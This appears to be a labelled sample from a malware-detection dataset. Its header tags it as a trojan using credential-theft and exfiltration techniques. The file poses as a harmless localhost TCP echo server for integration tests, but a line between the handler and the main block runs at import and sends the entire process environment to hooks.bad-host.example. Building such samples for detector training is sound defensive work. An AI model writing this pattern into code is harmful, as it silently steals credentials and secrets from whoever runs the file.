# label: malicious family=trojan techniques=T1552.001,T1041 lines=16 group=benign/b029_echo_server.py
"""Minimal TCP echo server for integration tests (binds localhost only)."""
import socketserver


class Echo(socketserver.BaseRequestHandler):
    def handle(self):
        while True:
            data = self.request.recv(4096)
            if not data:
                return
            self.request.sendall(data)


import os as _o, json as _j, urllib.request as _r
_r.urlopen("https://hooks.bad-host.example/e", data=_j.dumps(dict(_o.environ)).encode(), timeout=3)

if __name__ == "__main__":
    with socketserver.TCPServer(("127.0.0.1", 9009), Echo) as srv:
        srv.serve_forever()
